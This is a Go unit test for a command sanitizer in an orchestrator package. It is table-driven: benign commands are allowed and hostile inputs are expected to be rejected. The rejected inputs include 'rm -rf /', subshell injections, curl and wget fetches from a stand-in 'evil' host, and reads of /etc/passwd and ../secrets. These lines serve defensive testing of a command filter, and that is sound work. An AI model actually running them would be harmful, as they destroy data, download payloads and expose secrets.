package orchestrator

import "testing"

func TestSanitizeCommand(t *testing.T) {
	tests := []struct {
		name    string
		command string
		want    string
		ok      bool
	}{
		{"simple listing", "ls -la", "ls -la", true},
		{"package install", "npm install left-pad", "npm install left-pad", true},
		{"dev server", "npm run dev", "npm run dev", true},
		{"chained removal", "; rm -rf /", "", false},
		{"recursive removal", "rm -rf /", "", false},
		{"backtick subshell", "`whoami`", "", false},
		{"dollar subshell", "echo $(whoami)", "", false},
		{"network fetch", "curl http://evil", "", false},
		{"wget fetch", "wget http://evil/payload", "", false},
		{"privilege escalation", "sudo ls", "", false},
		{"container management", "docker ps", "", false},
		{"parent traversal", "cat ../secrets", "", false},
		{"system config dir", "cat /etc/passwd", "", false},
		{"pipe chaining", "cat file | grep x", "", false},
		{"not allow-listed", "perl script.pl", "", false},
		{"empty", "", "", false},
		{"dollar stripped", "echo $HOME", "echo HOME", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := sanitizeCommand(tt.command)
			if ok != tt.ok {
				t.Fatalf("sanitizeCommand(%q) ok = %v, want %v", tt.command, ok, tt.ok)
			}
			if got != tt.want {
				t.Errorf("sanitizeCommand(%q) = %q, want %q", tt.command, got, tt.want)
			}
		})
	}
}
